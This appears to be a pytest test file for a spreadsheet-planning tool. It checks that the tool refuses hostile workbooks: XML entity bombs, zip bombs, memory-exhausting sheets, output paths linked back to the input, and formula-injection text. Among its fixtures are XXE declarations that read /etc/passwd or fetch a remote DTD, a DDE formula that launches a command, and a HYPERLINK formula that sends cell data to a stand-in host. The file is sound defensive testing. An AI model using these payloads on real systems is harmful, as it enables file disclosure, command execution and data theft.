"""Hostile input: XML entities, zip bombs, sheets built to exhaust memory, formula injection,
and outputs aimed at the input through links.

Every attack is refused (or defused) with a message about the file, before any sheet is
parsed where that is possible, within a small, asserted budget of time and memory; the
input's bytes never change.
"""

from __future__ import annotations

import hashlib
import os
import re
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result
from openpyxl import Workbook
from workbooks import minimal_scenario_tables, write_workbook

import planner.io.reader
from planner.cli.main import main
from planner.errors import InputError
from planner.io.reader import MIB, ZipLimits, read_workbook
from planner.io.validate import load_scenario
from planner.io.xlsx import write_text

COUNTRIES = "xl/worksheets/sheet2.xml"
"""The Countries sheet's part in a workbook written by ``write_workbook``."""


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def refused(path: Path, limits: ZipLimits | None = None) -> str:
    """The message of the file-level InputError that loading ``path`` raises."""
    with pytest.raises(InputError) as info:
        load_scenario(path, limits=limits)
    assert [(p.sheet, p.row, p.column) for p in info.value.problems] == [("", None, "")]
    return str(info.value)


def rewrite(source: Path, target: Path, change: Callable[[str, bytes], bytes]) -> Path:
    """Copy a zip, passing each part's name and bytes through ``change``."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, change(info.filename, old.read(info)))
    return target


@pytest.fixture
def minimal(tmp_path: Path) -> Path:
    return write_workbook(tmp_path / "minimal.xlsx", minimal_scenario_tables())


# --- XML entities --------------------------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
EXTERNAL = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>'


def with_doctype(data: bytes, declaration: str, encoding: str = "utf-8") -> bytes:
    """The XML part with ``declaration`` after its XML declaration, in ``encoding``."""
    text = data.decode("utf-8")
    text = re.sub(r"^<\?xml[^>]*\?>", "", text)
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return (head + declaration + text).encode(encoding)


@pytest.mark.parametrize(
    ("part", "declaration", "encoding"),
    [
        (COUNTRIES, LAUGHS, "utf-8"),
        ("xl/workbook.xml", EXTERNAL, "utf-8"),
        ("xl/styles.xml", PARAMETER, "utf-8"),
        ("[Content_Types].xml", LAUGHS, "utf-8"),
        ("xl/_rels/workbook.xml.rels", EXTERNAL, "utf-8"),
        (COUNTRIES, EXTERNAL, "utf-16"),
    ],
    ids=["laughs-sheet", "external-workbook", "parameter-styles", "types", "rels", "utf16"],
)
def test_xml_entity_declarations_are_refused_before_any_sheet_is_parsed(
    minimal: Path, tmp_path: Path, part: str, declaration: str, encoding: str
) -> None:
    path = rewrite(
        minimal,
        tmp_path / "entities.xlsx",
        lambda name, data: with_doctype(data, declaration, encoding) if name == part else data,
    )
    message = refused(path)
    assert f"XML entity declarations (a DOCTYPE in {part})" in message
    assert "root:" not in message  # nothing of /etc/passwd


def test_defusedxml_refuses_entities_should_the_first_check_miss_them(
    minimal: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second line of defence: openpyxl parses through defusedxml, mapped to InputError."""
    monkeypatch.setattr(planner.io.reader, "_declares_doctype", lambda part: False)
    for part, declaration in ((COUNTRIES, LAUGHS), ("xl/workbook.xml", EXTERNAL)):
        path = rewrite(
            minimal,
            tmp_path / "entities.xlsx",
            lambda name, data, p=part, d=declaration: with_doctype(data, d) if name == p else data,
        )
        assert "XML entity declarations" in refused(path)


# --- zip bombs -----------------------------------------------------------------------------


def with_part(source: Path, target: Path, name: str, megabytes: int) -> Path:
    """Copy a workbook and add (or replace) a part of zero bytes, streamed in."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename != name:
                new.writestr(info.filename, old.read(info))
        with new.open(name, "w") as part:
            chunk = bytes(MIB)
            for _ in range(megabytes):
                part.write(chunk)
    return target


def measured(action: Callable[[], object]) -> tuple[float, float]:
    """Seconds taken and peak MiB allocated by ``action`` (exceptions are expected)."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        action()
    except InputError:
        pass
    finally:
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1] / MIB
        tracemalloc.stop()
    return seconds, peak


def test_a_zip_bomb_is_refused_quickly_in_little_memory(minimal: Path, tmp_path: Path) -> None:
    """A 64 MiB worksheet of zeros packs into about 64 KiB; nothing of it is unpacked."""
    path = with_part(minimal, tmp_path / "bomb.xlsx", COUNTRIES, 64)
    assert path.stat().st_size < MIB
    assert "may be a zip bomb" in refused(path)
    seconds, peak = measured(lambda: load_scenario(path))
    assert seconds < 1.0
    assert peak < 4  # MiB: a sixteenth of what the part unpacks to


def test_a_bomb_that_lies_about_its_size_is_cut_off_at_the_declared_size(
    minimal: Path, tmp_path: Path
) -> None:
    """The zip's headers claim a 2 KiB worksheet that really unpacks to 64 MiB.

    The size checks pass, but nothing unpacks more than the declared size: the part fails
    its checksum there and the file is refused as damaged.
    """
    path = with_part(minimal, tmp_path / "liar.xlsx", COUNTRIES, 64)
    declare_size(path, COUNTRIES, 2048)
    assert "the file is damaged or incomplete" in refused(path)
    seconds, peak = measured(lambda: load_scenario(path))
    assert seconds < 1.0
    assert peak < 8


def declare_size(path: Path, name: str, size: int) -> None:
    """Overwrite the unpacked size a zip declares for one part (both of its headers)."""
    data = bytearray(path.read_bytes())
    end = data.rindex(b"PK\x05\x06")
    entries, offset = (
        struct.unpack_from("<H", data, end + 10)[0],
        struct.unpack_from("<I", data, end + 16)[0],
    )
    for _ in range(entries):
        lengths = struct.unpack_from("<HHH", data, offset + 28)
        if data[offset + 46 : offset + 46 + lengths[0]] == name.encode():
            struct.pack_into("<I", data, offset + 24, size)
            local = struct.unpack_from("<I", data, offset + 42)[0]
            struct.pack_into("<I", data, local + 22, size)
        offset += 46 + sum(lengths)
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as archive:
        assert archive.getinfo(name).file_size == size


def test_many_small_parts_are_bounded_by_their_total_size(minimal: Path, tmp_path: Path) -> None:
    path = tmp_path / "parts.xlsx"
    with zipfile.ZipFile(minimal) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, old.read(info))
        for index in range(101):  # 1 MiB each: below the size at which ratios are checked
            new.writestr(f"xl/media/image{index}.bin", bytes(MIB))
    assert "unpacks to 101 MiB, more than the 100 MiB limit" in refused(path)
    assert "--max-unpacked-mb" in refused(path)


@pytest.mark.parametrize(
    ("limits", "says"),
    [
        (ZipLimits(max_file_mb=0.001), "--max-file-mb"),
        (ZipLimits(max_unpacked_mb=0.001), "--max-unpacked-mb"),
        (ZipLimits(max_parts=5), "more than the limit of 5; it may be crafted"),
    ],
    ids=["file", "unpacked", "parts"],
)
def test_each_limit_refuses_and_names_its_option(
    minimal: Path, limits: ZipLimits, says: str
) -> None:
    assert says in refused(minimal, limits)


def test_a_user_can_raise_the_ratio_limit_for_a_file_they_trust(
    minimal: Path, tmp_path: Path
) -> None:
    """A genuine workbook can hold a large, very compressible part (say, a blank image)."""
    path = with_part(minimal, tmp_path / "padded.xlsx", "xl/media/blank.bin", 2)
    assert "--max-ratio" in refused(path)
    assert load_scenario(path, limits=ZipLimits(max_ratio=10_000)).scenario.name == "minimal"


# --- sheets built to exhaust memory --------------------------------------------------------


def with_rows(source: Path, target: Path, rows: Iterator[str]) -> Path:
    """Copy a workbook with extra ``<row>`` elements at the end of the Countries sheet."""
    extra = "".join(rows).encode()
    return rewrite(
        source,
        target,
        lambda name, data: (
            data.replace(b"</sheetData>", extra + b"</sheetData>") if name == COUNTRIES else data
        ),
    )


def test_cells_at_the_last_column_cost_what_they_weigh(minimal: Path, tmp_path: Path) -> None:
    """20,000 rows with one empty cell at column XFD: a 100 KiB file.

    Padding every row to its widest cell (what openpyxl's ``iter_rows`` does) costs
    16,384 cells a row, gigabytes here; the reader keeps only what is stored. Memory is the
    measure (padding would need gigabytes, not tens of MiB); time is the benchmarks' job, so
    a loaded machine cannot fail this test.
    """
    path = with_rows(
        minimal,
        tmp_path / "wide.xlsx",
        (f'<row r="{r}"><c r="XFD{r}"/></row>' for r in range(10, 20_010)),
    )
    _, peak = measured(lambda: load_scenario(path))
    assert load_scenario(path).scenario.members == ("A", "B")
    assert peak < 50


def test_deeply_nested_xml_in_a_cell_is_survived(minimal: Path, tmp_path: Path) -> None:
    """100,000 nested elements inside one cell: parsed without recursion, the cell ignored."""
    deep = "<x>" * 100_000 + "</x>" * 100_000
    path = with_rows(
        minimal, tmp_path / "deep.xlsx", iter([f'<row r="9"><c r="A9">{deep}</c></row>'])
    )
    assert load_scenario(path).scenario.name == "minimal"


@pytest.mark.parametrize(
    ("row", "says"),
    [
        ('<row r="1048577"><c r="A1048577"><v>1</v></c></row>', "beyond Excel's limits"),
        ('<row r="12"><c r="XFE12"><v>1</v></c></row>', "beyond Excel's last column"),
        ('<row r="12"><c r="ZZZZZ12"><v>1</v></c></row>', "has the address 'ZZZZZ12'"),
    ],
    ids=["row", "column", "address"],
)
def test_addresses_beyond_excel_are_refused_as_damage(
    minimal: Path, tmp_path: Path, row: str, says: str
) -> None:
    path = with_rows(minimal, tmp_path / "far.xlsx", iter([row]))
    message = refused(path)
    assert "damaged or was not written by a spreadsheet program" in message
    assert says in message


# --- text from the input is never a live formula -------------------------------------------

PAYLOADS = {
    "A": "=1+1",
    "B": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "C": "#N/A",
    "ore": "@SUM(1,1)",
    "chip": "+chip",
    "compute": "-compute",
    "fab": "=cmd|' /C calc'!A0",
    "dc": "\t=dc",
    "Alpha": "\n=2+2",
    "Gamma": "\r=3+3",
    "chips": "=layer",
    "minimal": "=name",
}
"""Every id, name and label of the minimal scenario, replaced by text a naive writer turns
into a formula or an error code (leading tabs and line breaks are stripped on reading)."""


def write_as_text(path: Path, tables: dict[str, list[list[object]]]) -> Path:
    """Write tables keeping every string as text, as a spreadsheet program would store it."""
    book = Workbook()
    book.remove(book.active)
    for title, rows in tables.items():
        sheet = book.create_sheet(title)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                cell = sheet.cell(row=r, column=c)
                if isinstance(value, str):
                    write_text(cell, value)
                else:
                    cell.value = value
    book.save(path)
    return path


def hostile_tables() -> dict[str, list[list[object]]]:
    tables = minimal_scenario_tables()
    for rows in tables.values():
        for row in rows[1:]:
            row[:] = [PAYLOADS.get(v, v) if isinstance(v, str) else v for v in row]
    tables["Scenario"].append(["description", "+=1+1 described"])
    tables["Scenario"].append(["currency", "=USD"])
    return tables


def all_cells(path: Path) -> Iterator[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_input_text_comes_back_as_text_in_every_output(tmp_path: Path) -> None:
    source = write_as_text(tmp_path / "hostile.xlsx", hostile_tables())
    before = digest(source)
    report, summary = tmp_path / "report.xlsx", tmp_path / "summary.json"
    result = CliRunner().invoke(
        main, ["run", str(source), "-o", str(report), "--json", str(summary), "--mode", "min_cost"]
    )
    assert result.exit_code == 0, result.output
    cells = list(all_cells(report))
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    errors = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "e"]
    assert formulas == [] and errors == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for shown in ("=1+1", PAYLOADS["B"], "#N/A", "@SUM(1,1)", "+chip", "-compute", "=dc"):
        assert shown in texts, shown
    assert {"=cmd|' /C calc'!A0", "=name", "=layer"} <= texts
    assert any(text.startswith("=USD") or "(=USD)" in text for text in texts)
    risky = [
        c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
    ]
    assert all(c.quotePrefix for c in risky), [c.coordinate for c in risky if not c.quotePrefix]
    assert '"=1+1"' in summary.read_text(encoding="utf-8")
    assert digest(source) == before


# --- outputs aimed at the input ------------------------------------------------------------


def run_cli(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder holding the valid minimal scenario as scenario.xlsx."""
    write_workbook(tmp_path / "scenario.xlsx", minimal_scenario_tables())
    return tmp_path


def aims(folder: Path) -> Iterator[tuple[str, list[str]]]:
    """Ways of pointing an output at the input, each with its CLI arguments."""
    source = folder / "scenario.xlsx"
    (folder / "link.xlsx").symlink_to(source)
    (folder / "linked-folder").symlink_to(folder, target_is_directory=True)
    os.link(source, folder / "hard.xlsx")
    yield "symlink", ["run", str(source), "-o", str(folder / "link.xlsx")]
    yield "input through a symlink", ["run", str(folder / "link.xlsx"), "-o", str(source)]
    yield "hard link", ["run", str(source), "-o", str(folder / "hard.xlsx")]
    yield "linked folder", ["run", str(source), "-o", str(folder / "linked-folder/scenario.xlsx")]
    yield "dot-dot path", ["run", str(source), "-o", str(folder / "x/../scenario.xlsx")]
    report = str(folder / "report.xlsx")
    yield "json on a link", ["run", str(source), "-o", report, "--json", str(folder / "link.xlsx")]


def test_an_output_aimed_at_the_input_through_a_link_is_refused(folder: Path) -> None:
    source = folder / "scenario.xlsx"
    before = digest(source)
    (folder / "x").mkdir()
    for how, args in aims(folder):
        listing = sorted(p.name for p in folder.iterdir())
        result = run_cli(*args)
        assert result.exit_code == 2, (how, result.output)
        assert isinstance(result.exception, SystemExit), how
        assert "this is the input workbook" in result.output, how
        assert digest(source) == before, how
        assert sorted(p.name for p in folder.iterdir()) == listing, how  # no temporary file
    assert (folder / "link.xlsx").is_symlink()


def test_reading_never_changes_the_input(folder: Path) -> None:
    source = folder / "scenario.xlsx"
    before, stat = digest(source), source.stat()
    read_workbook(source)
    assert run_cli("validate", str(source)).exit_code == 0
    assert digest(source) == before
    assert source.stat().st_mtime_ns == stat.st_mtime_ns


def test_input_text_stays_text_in_the_sharing_report_and_the_annotated_copy(
    tmp_path: Path,
) -> None:
    """The other outputs that carry input text: `planner share`'s workbook, and the copy
    `planner validate --annotate` writes (here of a valid workbook, with its warnings)."""
    source = write_as_text(tmp_path / "hostile.xlsx", hostile_tables())
    before = digest(source)
    sharing, annotated = tmp_path / "sharing.xlsx", tmp_path / "annotated.xlsx"
    shared = CliRunner().invoke(main, ["share", str(source), "-o", str(sharing)])
    assert shared.exit_code == 0, shared.output
    checked = CliRunner().invoke(main, ["validate", str(source), "--annotate", str(annotated)])
    assert checked.exit_code == 0, checked.output
    for output in (sharing, annotated):
        cells = list(all_cells(output))
        written = [c for c in cells if c.parent.title in ("Sharing", "Stability", "Errors")]
        assert [c.coordinate for c in written if c.data_type in ("f", "e")] == []
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert texts & {"=1+1", PAYLOADS["B"]}, output.name  # the member ids, as text
    assert digest(source) == before
